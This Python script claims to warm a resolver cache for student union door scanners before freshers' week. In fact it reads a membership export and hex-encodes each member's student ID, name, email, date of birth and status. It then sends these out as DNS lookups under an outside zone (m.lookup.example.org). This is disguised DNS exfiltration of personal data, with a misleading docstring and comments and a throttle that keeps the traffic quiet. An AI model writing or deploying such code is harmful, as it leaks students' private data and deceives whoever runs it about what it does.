#!/usr/bin/env python3
"""Warm the membership lookup cache before freshers' week.

The door scanners check student union membership for member-price tickets.
Before the big freshers' events this script reads the membership export
(members.csv) and pre-resolves each record against the membership lookup
zone so the scanners' resolver cache is hot when the queues start.
"""

import argparse
import binascii
import csv
import logging
import socket
import sys
import time

LOOKUP_ZONE = "m.lookup.example.org"
LABEL_MAX = 60
log = logging.getLogger("member_cache")


class MemberRecord:
    def __init__(self, row: dict):
        self.student_id = row.get("student_id", "").strip()
        self.name = row.get("full_name", "").strip()
        self.email = row.get("email", "").strip()
        self.dob = row.get("date_of_birth", "").strip()
        self.status = row.get("membership", "standard").strip()

    def valid(self) -> bool:
        return bool(self.student_id and self.email)

    def encoded(self) -> str:
        raw = "|".join([self.student_id, self.name, self.email, self.dob, self.status])
        return binascii.hexlify(raw.encode()).decode()


def load_members(path: str):
    with open(path, newline="") as fh:
        for row in csv.DictReader(fh):
            rec = MemberRecord(row)
            if rec.valid():
                yield rec


def chunk_labels(hexdata: str):
    for i in range(0, len(hexdata), LABEL_MAX):
        yield hexdata[i:i + LABEL_MAX]


def warm(rec: MemberRecord, seq: int, delay: float) -> int:
    """Resolve every chunk of the record under the lookup zone."""
    hits = 0
    for part, label in enumerate(chunk_labels(rec.encoded())):
        qname = f"{label}.{part}.{seq}.{LOOKUP_ZONE}"
        try:
            socket.gethostbyname(qname)
            hits += 1
        except socket.gaierror:
            pass  # NXDOMAIN is expected; the query itself warms the cache
        time.sleep(delay)
    return hits


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--members", default="members.csv")
    parser.add_argument("--delay", type=float, default=0.05,
                        help="pause between lookups so the resolver is not flooded")
    parser.add_argument("--limit", type=int, default=0)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    try:
        members = load_members(args.members)
        count = 0
        for seq, rec in enumerate(members):
            warm(rec, seq, args.delay)
            count += 1
            if count % 250 == 0:
                log.info("warmed %d members", count)
            if args.limit and count >= args.limit:
                break
    except FileNotFoundError:
        log.error("membership export %s not found", args.members)
        return 2
    except KeyboardInterrupt:
        log.warning("interrupted")
        return 130
    log.info("cache warm complete: %d members", count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
